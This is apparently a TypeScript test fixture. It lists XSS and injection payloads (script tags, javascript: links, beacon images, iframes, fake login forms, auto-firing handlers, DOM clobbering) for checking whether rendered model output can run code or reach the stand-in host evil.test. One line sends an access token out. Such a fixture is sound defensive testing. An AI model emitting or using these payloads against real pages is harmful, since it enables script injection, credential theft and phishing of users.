/**
 * Texts by which a model, or whoever steers it, might try to run a script in
 * the page, fetch something from elsewhere, or lead people away. Each calls
 * `pwned()` if it runs, or names the host `evil.test` if it is fetched.
 */
export function payloads(): string[] {
  return [...SCRIPTS, ...links(), ...IMAGES, ...EMBEDS, ...HANDLERS.map(withHandler), ...TRICKS];
}

const SCRIPTS = [
  "<script>pwned()</script>",
  "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
  "<script\n>pwned()</script\n>",
  "<scr<script>ipt>pwned()</scr</script>ipt>",
  "<svg><script>pwned()</script></svg>",
  "<math><mtext><script>pwned()</script></mtext></math>",
  "<script type=module>import 'https://evil.test/x.js'</script>",
  "<script>fetch('https://evil.test/?t='+localStorage.access_token)</script>",
  "```html\n<script>pwned()</script>\n```",
  "`<script>pwned()</script>`",
  "    <script>pwned()</script>",
  "<!--><script>pwned()</script>-->",
  "<![CDATA[<script>pwned()</script>]]>",
  '<noscript><p title="</noscript><script>pwned()</script>">',
  "<template><script>pwned()</script></template>",
  "<xmp><script>pwned()</script></xmp>",
  "<textarea><script>pwned()</script></textarea>",
  "<style>@import 'https://evil.test/x.css';</style>",
  "<style>*{background:url(https://evil.test/x.png)}</style>",
  "<link rel=stylesheet href=https://evil.test/x.css>",
  "<link rel=preload as=image href=https://evil.test/x.png>",
  "<link rel=prefetch href=https://evil.test/>",
  "<base href=https://evil.test/>",
  '<meta http-equiv=refresh content="0;url=https://evil.test/">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
];

/** Addresses that do harm, in every way that markdown can hold a link. */
function links(): string[] {
  const addresses = [
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    "java\tscript:pwned()",
    "javascript&colon;pwned()",
    "&#106;avascript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "vbscript:pwned()",
    "//evil.test/",
    "https://evil.test/",
    "https://nhs.uk@evil.test/",
    "https:\\\\evil.test",
  ];
  return addresses.flatMap((address) => [
    `[click me](${address})`,
    `[click me][1]\n\n[1]: ${address}`,
    `<${address}>`,
    `<a href="${address}" target=_blank>click me</a>`,
  ]);
}

const IMAGES = [
  "![x](https://evil.test/beacon.png)",
  "![x](//evil.test/beacon.png)",
  "![x](http://evil.test/beacon.png 'title')",
  "![x][2]\n\n[2]: https://evil.test/beacon.png",
  "[![x](https://evil.test/beacon.png)](https://evil.test/)",
  "![x](data:image/svg+xml,<svg onload=pwned()>)",
  "<img src=https://evil.test/beacon.png>",
  "<img srcset='https://evil.test/a.png 1x'>",
  "<picture><source srcset=https://evil.test/a.png><img></picture>",
  "<video poster=https://evil.test/a.png></video>",
  "<audio src=https://evil.test/a.mp3 autoplay></audio>",
  "<input type=image src=https://evil.test/a.png>",
  "<svg><image href=https://evil.test/a.png /></svg>",
  "<svg><use href='https://evil.test/a.svg#x' /></svg>",
  "<table background=https://evil.test/a.png><tr><td>x</table>",
  "<div style='background:url(https://evil.test/a.png)'>x</div>",
];

const EMBEDS = [
  "<iframe src=https://evil.test/></iframe>",
  "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
  "<iframe src=javascript:parent.pwned()></iframe>",
  "<object data=https://evil.test/x.swf></object>",
  "<object data='data:text/html,<script>parent.pwned()</script>'></object>",
  "<embed src=https://evil.test/x.swf>",
  "<frameset onload=pwned()><frame src=https://evil.test/></frameset>",
  "<applet code=x archive=https://evil.test/x.jar></applet>",
  "<form action=https://evil.test/><input name=password><button>Log in</button></form>",
  "<button formaction=javascript:pwned()>Go on</button>",
  "<dialog open><form method=dialog>Session over. <input type=password></form></dialog>",
  "<portal src=https://evil.test/></portal>",
];

/** Elements whose handlers run by themselves. */
const HANDLERS = [
  "img src=x onerror",
  "svg onload",
  "body onload",
  "input autofocus onfocus",
  "details open ontoggle",
  "video src=x onerror",
  "audio src=x onerror",
  "marquee onstart",
  "object data=x onerror",
  "iframe onload",
  "style onload",
  "textarea autofocus onfocus",
  "select autofocus onfocus",
  "div onanimationstart",
  "p onmouseover",
  "x contenteditable autofocus onfocus",
];

function withHandler(handler: string): string {
  return `<${handler}=pwned()>`;
}

const TRICKS = [
  "<svg><animate attributeName=href values=javascript:pwned() /><a><text>x</text></a></svg>",
  "<math href=javascript:pwned()>x</math>",
  "<div id=__proto__>x</div>",
  "<a name=cookie id=cookie href=javascript:pwned()>x</a>",
  "<form id=document><input name=body></form>",
  "{{constructor.constructor('pwned()')()}}",
  "${pwned()}",
  "\u202E)(nwned:tpircsavaj\u202C",
  "<ｓcript>pwned()</ｓcript>",
  "\u0000<script>pwned()</script>",
  "<img/src=`x`/onerror=pwned()>",
  "<a href=\u0001javascript:pwned()>x</a>",
];
